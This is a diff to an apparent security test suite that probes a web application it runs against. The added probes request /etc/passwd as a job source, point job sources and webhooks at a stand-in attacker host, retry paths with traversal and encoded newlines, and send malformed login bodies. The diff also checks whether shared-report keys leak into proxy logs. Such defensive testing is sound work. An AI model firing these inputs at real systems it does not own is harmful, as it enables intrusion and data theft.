@@ -76,6 +76,7 @@ def run(scale: Scale) -> Iterator[Line]:
         yield from (_strangers(site), _foreign_ids(site), _api_ids(site), _roles(site), _copied_media(site))
         yield from (_traversals(site), _forged_headers(site), _foreign_sites(site), _redirects(site), _caching(site))
         yield from (_cookies(site, scale), _fixation(site), page_attacks.sockets(site), _smuggling(site))
+        yield from (page_attacks.messages(site), _logged_keys(site), _odd_requests(site))
         yield from (_slow(site, scale), _guesses(site), page_attacks.lost_roles(site, scale))
 
 
@@ -147,8 +148,12 @@ def _roles(site: Site) -> Line:
         tried = [bob.post("/api/uploads", headers=tus), bob.get("/_stcore/metrics")]
         tried += [bob.get("/_stcore/agent/openapi.json"), bob.post("/_stcore/agent/interact", json={})]
         tried.append(program.post("/api/v1/uploads", json={"name": "a.mp4", "size_bytes": 4}))
-        job = {"source": {"type": "path", "path": "/etc/passwd"}, "use_model": False}
-        tried.append(program.post("/api/v1/jobs", json=job))
+        for source in ({"type": "path", "path": "/etc/passwd"}, {"type": "url", "url": f"{_EVIL}/a.mp4"}):
+            tried.append(program.post("/api/v1/jobs", json={"source": source, "use_model": False}))
+        tried.append(program.post("/api/v1/webhooks", json={"url": f"{_EVIL}/"}))
+        for method, path in (("POST", "cancel"), ("POST", "resume"), ("POST", "questions"), ("DELETE", "")):
+            answer = program.request(method, f"/api/v1/jobs/{site.ids['job']}/{path}".rstrip("/"), json={})
+            tried.append(answer)
     for answer in tried:
         count, lost = count + 1, lost + (answer.status_code < 400)
     return Line("a viewer as an analyst or administrator", count, lost)
@@ -304,6 +309,36 @@ def _smuggling(site: Site) -> Line:
             lost += answer.text != "ok"
         lost += b"_stcore" in body
     return Line("requests inside of requests", count, lost, crashed)
+
+
+def _logged_keys(site: Site) -> Line:
+    """Addresses of shared reports, which are keys, in the logs of the proxy."""
+    keys = [f"{number:043x}" for number in range(1, 6)]
+    with site.client() as stranger:
+        for key in keys:
+            for path in (
+                f"/api/shared/{key}",
+                f"/api/shared/{key}?a=b",
+                f"//api/shared/{key}",
+                f"/x/../api/shared/{key}",
+            ):
+                stranger.get(path)
+    logs = b"".join(one.read_bytes() for one in site.logs)
+    return Line("keys of shared reports in the proxy's logs", 4 * len(keys), sum(key.encode() in logs for key in keys))
+
+
+def _odd_requests(site: Site) -> Line:
+    """Bodies of a login that are none, and paths that end with a control character."""
+    count = lost = crashed = 0
+    with site.client(Origin=site.url) as stranger:
+        for body in (b"", b"[]", b"\xff", b"[" * 9000, b'{"name": "\\ud800", "password": ""}', b'"' + b"a" * 20_000):
+            status = stranger.post("/api/session", content=body).status_code
+            count, lost, crashed = count + 1, lost + (status < 400), crashed + (status >= 500)
+    for place in (f"/api/videos/{site.ids['video']}%0a", f"/api/library/{site.ids['job']}.jpg%0a", "/api/v1/jobs%0a"):
+        head, _ = _raw(site, f"GET {place}?key={site.keys['ann']} HTTP/1.1\r\n", cookie=site.cookies["ann"])
+        status = int(head.split(b" ")[1])
+        count, lost, crashed = count + 1, lost + (status < 400), crashed + (status >= 500)
+    return Line("odd logins and paths", count, lost, crashed)
 
 
 def _slow(site: Site, scale: Scale) -> Line:
